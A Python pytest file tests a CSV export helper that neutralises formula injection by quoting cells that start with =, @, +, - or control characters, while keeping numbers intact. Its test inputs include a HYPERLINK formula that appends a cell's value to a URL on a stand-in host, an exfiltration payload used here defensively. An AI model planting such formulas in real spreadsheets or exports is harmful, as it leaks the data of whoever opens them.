"""The one CSV writer for downloads: text a spreadsheet would run as a formula is defused,
numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from dl_portal.csv_export import csv_writer, safe_cell

FORMULAS = [
    '=HYPERLINK("http://x.example/"&A2,"click")',
    "@SUM(1+1)",
    "+1",
    "-1+2",
    "\tTab",
    "\rCR",
    "-5",  # a number written as text is text: it could be the start of anything
]


def written(*rows):
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerows(rows)
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    assert safe_cell(text) == f"'{text}"
    assert written([text]) == [[f"'{text}"]]


@pytest.mark.parametrize(
    "text", ["Ada", "", "Mary-Jo", "O'Brien", "a=b", "3+4", " =not at the start", "2026-2027"]
)
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-0.5, "-0.5"),
        (Decimal("-4.00"), "-4.00"),
        (0, "0"),
        (True, "True"),
        (None, ""),
    ],
)
def test_numbers_booleans_and_none_are_written_as_they_are(value, cell):
    assert safe_cell(value) == value
    assert written([value]) == [[cell]]


def test_other_values_are_judged_by_their_text():
    class Name:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Name()) == "'=1+1"
    assert safe_cell(datetime.date(2026, 9, 15)) == "2026-09-15"


def test_writerow_and_writerows_defuse_every_cell_of_every_row():
    buffer = io.StringIO(newline="")
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["first_name", "change"])
    writer.writerows([["=1+1", -3], ["Ben", Decimal("2.5")]])

    assert buffer.getvalue() == "first_name,change\n'=1+1,-3\nBen,2.5\n"
